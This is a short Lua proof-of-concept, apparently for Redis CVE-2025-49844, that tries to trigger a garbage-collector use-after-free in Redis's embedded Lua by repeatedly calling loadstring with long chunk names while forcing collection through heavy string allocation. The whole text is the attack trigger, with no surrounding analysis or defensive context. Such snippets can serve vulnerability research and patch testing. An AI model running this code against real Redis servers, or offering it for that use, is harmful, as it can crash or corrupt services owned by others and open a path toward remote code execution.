-- Redis CVE-2025-49844: the collector runs while a chunk's name is in use by the parser.
for i = 1, 60 do
  local name = ("n"):rep(2000) .. i
  pcall(loadstring, ("local x = '%s' "):format(("y"):rep(2000)):rep(20), name)
  name = nil
  for _ = 1, 20 do local _ = ("z"):rep(4000 + i) end
end
